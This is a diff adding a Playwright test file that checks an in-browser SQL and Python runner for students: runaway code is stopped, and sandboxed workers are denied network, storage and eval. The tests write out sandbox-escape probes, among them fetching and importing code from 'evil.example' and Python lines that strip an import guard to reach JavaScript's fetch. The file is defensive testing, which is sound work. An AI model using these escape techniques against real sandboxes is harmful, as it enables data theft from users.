@@ -1,0 +1,221 @@
+import type { Worker } from '@playwright/test';
+import {
+  cancelLoading,
+  failureOf,
+  isKept,
+  loadRunner,
+  openRunner,
+  type Run,
+  runCode,
+  runnerScript,
+  workerFile,
+} from './runtimes.ts';
+import { expect, long, test } from './test.ts';
+
+/** All but one frame in twenty came within a tenth of a second: the machine of a test is busy with other pages, too. */
+const isSmooth = ({ gaps }: Run) => (gaps[Math.ceil(gaps.length / 20)] ?? 0) < 100;
+
+const endless = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n';
+const tenMillion = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10000000) SELECT i FROM n';
+
+test('SQL: an endless query is stopped by the person or after five seconds, and the next one answers at once', async ({
+  page,
+}) => {
+  const { run } = await openRunner(page, 'sql');
+  const byPerson = await runCode(page, { code: endless }, 300);
+  expect(byPerson.outcome).toEqual({ kind: 'stopped', why: 'person', text: '' });
+  expect(byPerson.milliseconds).toBeLessThan(1_000);
+  const next = await run('SELECT name FROM bikes');
+  expect(next.outcome).toMatchObject({ kind: 'table', rows: [['Heron'], ['Wren']] });
+  expect(next.milliseconds).toBeLessThan(1_000);
+
+  const byTime = await run(endless);
+  expect(byTime.outcome).toEqual({ kind: 'stopped', why: 'time', text: '' });
+  expect(byTime.milliseconds).toBeGreaterThan(4_900);
+  expect(isSmooth(byTime)).toBe(true);
+  const after = await run('SELECT name FROM bikes');
+  expect(after.outcome).toMatchObject({ kind: 'table', rowCount: 2 });
+  expect(after.milliseconds).toBeLessThan(1_000);
+});
+
+test('SQL: ten million rows neither freeze nor fill the page', async ({ page }) => {
+  const { run } = await openRunner(page, 'sql');
+  const many = await run(tenMillion);
+  if (many.outcome.kind === 'table') {
+    expect(many.outcome.rowCount).toBe(10_000_000);
+    expect(many.outcome.rows.length).toBe(1_000);
+  } else expect(many.outcome).toMatchObject({ kind: 'stopped', why: 'time' });
+  expect(isSmooth(many)).toBe(true);
+  expect((await run('SELECT 1')).outcome).toMatchObject({ rows: [[1]] });
+});
+
+/** What a worker's own JavaScript can do, were a student's code to get at it. */
+const reach = (worker: Worker, address: string) =>
+  worker.evaluate(async (address) => {
+    const evil = 'https://evil.example/x.js';
+    const attempt = async (act: () => unknown) => {
+      try {
+        await act();
+        return 'done';
+      } catch {
+        return 'refused';
+      }
+    };
+    const opened = (url: string) =>
+      new Promise((resolve, reject) => {
+        const socket = new WebSocket(url);
+        socket.addEventListener('open', resolve);
+        socket.addEventListener('error', reject);
+      });
+    const requested = (url: string) => {
+      const request = new XMLHttpRequest();
+      request.open('GET', url, false);
+      request.send();
+    };
+    return {
+      fetch: await attempt(() => fetch(`${address}/v1/marketing/courses`)),
+      another: await attempt(() => fetch(evil)),
+      request: await attempt(() => requested(`${address}/v1/marketing/courses`)),
+      socket: await attempt(() => opened(address.replace('http', 'ws'))),
+      script: await attempt(() => Reflect.get(globalThis, 'importScripts')(`${address}/theme.js`)),
+      module: await attempt(() => import(evil)),
+      worker: await attempt(() => new Worker(`${address}/theme.js`)),
+      text: await attempt(() => new Function('return 1')()),
+      storage: await attempt(() => indexedDB.open('keyval-store').addEventListener('success', () => {})),
+      files: await attempt(() => caches.keys()),
+      channel: await attempt(() => new BroadcastChannel('session')),
+    };
+  }, address);
+
+test('A worker’s policy forbids the network, scripts and eval to all code in it', async ({
+  page,
+  product,
+  complaints,
+}) => {
+  await page.goto('/login');
+  const opened = page.waitForEvent('worker');
+  // As a stranger's script would: before any code of ours has taken something away.
+  await page.evaluate((url) => {
+    const rules = { createScriptURL: (text: string) => text };
+    const policy = Reflect.get(window, 'trustedTypes').createPolicy('runtimes', rules);
+    Reflect.set(window, 'worker', new Worker(policy.createScriptURL(url), { type: 'module' }));
+  }, workerFile('sql'));
+  const { storage, files, channel, ...network } = await reach(await opened, product.url);
+  expect(Object.values({ storage, files, channel })).toEqual(['done', 'done', 'done']);
+  expect(new Set(Object.values(network))).toEqual(new Set(['refused']));
+  complaints.length = 0;
+});
+
+test('A worker has no network, storage or channel left once it can run code', async ({ page, product, complaints }) => {
+  const opened = page.waitForEvent('worker');
+  await openRunner(page, 'sql');
+  expect(new Set(Object.values(await reach(await opened, product.url)))).toEqual(new Set(['refused']));
+  expect(complaints).toEqual([]);
+});
+
+test('The page starts no other worker than these, and compiles no WebAssembly', async ({ page, complaints }) => {
+  await openRunner(page, 'sql');
+  const tries = await page.evaluate(async (url) => {
+    const attempt = async (act: () => unknown) => {
+      try {
+        await act();
+        return 'done';
+      } catch (error) {
+        return error instanceof Error ? error.name : 'refused';
+      }
+    };
+    const empty = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
+    return [await attempt(() => new Worker(url, { type: 'module' })), await attempt(() => WebAssembly.compile(empty))];
+  }, workerFile('sql'));
+  expect(tries).toEqual(['TypeError', 'CompileError']);
+  complaints.length = 0;
+});
+
+test('Python: code that does not end is stopped, and the next run answers within a second of being ready', {
+  tag: long,
+}, async ({ page }) => {
+  const { run } = await openRunner(page, 'python');
+  const loop = await runCode(page, { code: "print('before')\nwhile True:\n  pass" }, 300);
+  expect(loop.outcome).toEqual({ kind: 'stopped', why: 'person', text: 'before\n' });
+  expect(loop.milliseconds).toBeLessThan(1_000);
+  for (const code of ["while True:\n  print('on and on')", 'import time\ntime.sleep(600)', 'while True:\n  pass']) {
+    const stopped = await run(code);
+    expect(stopped.outcome).toMatchObject({ kind: 'stopped', why: 'time' });
+    expect('text' in stopped.outcome && stopped.outcome.text.length).toBeLessThanOrEqual(100_000);
+    expect(isSmooth(stopped)).toBe(true);
+    const next = await run("print(open('bikes.csv').read())");
+    expect(next.outcome).toMatchObject({ kind: 'output', text: 'name,day_rate\nHeron,12.5\nWren,9\n\n' });
+    expect(next.milliseconds).toBeLessThan(1_000);
+  }
+});
+
+test('Python: a student’s code finds no way to the page or the network', { tag: long }, async ({
+  page,
+  product,
+  complaints,
+}) => {
+  const { run } = await openRunner(page, 'python');
+  const text = async (code: string) => {
+    const { outcome } = await run(code);
+    return outcome.kind === 'error'
+      ? outcome.message.split('\n')[0]
+      : 'text' in outcome
+        ? outcome.text.trim()
+        : outcome.kind;
+  };
+  for (const name of ['js', 'pyodide_js', 'pyodide', 'pyodide.code', 'pyodide.http', '_pyodide_core', 'micropip']) {
+    expect(await text(`import ${name}`)).toBe(`ModuleNotFoundError: No module named '${name.split('.')[0]}'`);
+  }
+  expect(await text(`from urllib.request import urlopen\nurlopen('${product.url}/v1/marketing/courses')`)).toMatch(
+    /Error/,
+  );
+  expect(await text("import socket\nsocket.create_connection(('localhost', 80), 1)")).toMatch(/Error/);
+  // Taking the guard away gives the modules back, and these reach nothing.
+  const unguarded = `import sys\nsys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != 'NotThere']\n`;
+  expect(
+    await text(`${unguarded}import js\nprint([name for name in dir(js) if not name.startswith('_')])`),
+  ).not.toMatch(/fetch|XMLHttpRequest|indexedDB|caches|postMessage/);
+  for (const expression of [
+    "js.constructor.constructor('return 1')()",
+    "js.constructor.constructor('return self')().fetch('/v1/me')",
+    "__import__('pyodide').code.run_js('1')",
+    "__import__('pyodide').http.pyfetch('/v1/me')",
+    "__import__('pyodide_js').loadPackage('numpy')",
+  ]) {
+    expect(await text(`${unguarded}import js\n${expression}`), expression).toMatch(/Error/);
+  }
+  complaints.length = 0;
+});
+
+test('Python: what was loaded is kept, also without a network; cancelling keeps nothing', { tag: long }, async ({
+  page,
+  context,
+}) => {
+  await page.goto('/login');
+  expect(await cancelLoading(page, 'python')).toEqual({ name: 'AbortError', hasProgress: true });
+  expect(await isKept(page, 'python')).toBe(false);
+  expect(await page.evaluate(() => caches.keys())).toEqual([]);
+  await page.evaluate(() => caches.open('runtimes-python-313.0.0'));
+
+  await loadRunner(page, 'python');
+  expect(await isKept(page, 'python')).toBe(true);
+  expect(await page.evaluate(() => caches.keys())).toEqual([expect.stringMatching(/^runtimes-python-314/)]);
+
+  await page.reload();
+  await page.evaluate((script) => import(script), runnerScript);
+  await context.setOffline(true);
+  const { run } = await loadRunner(page, 'python');
+  expect((await run('print(1)')).outcome).toMatchObject({ kind: 'output', text: '1\n' });
+});
+
+test('What cannot be loaded says why', async ({ page, context }) => {
+  await page.goto('/login');
+  await page.evaluate((script) => import(script), runnerScript);
+  await context.setOffline(true);
+  expect(await failureOf(page, 'sql')).toBe('offline');
+  await context.setOffline(false);
+  await page.route('**/*.wasm', (route) => route.fulfill({ status: 503, body: 'busy' }));
+  expect(await failureOf(page, 'sql')).toBe('failed');
+  await page.route('**/*.wasm', (route) => route.fulfill({ status: 200, body: '<html>' }));
+  expect(await failureOf(page, 'sql')).toBe('failed');
+});
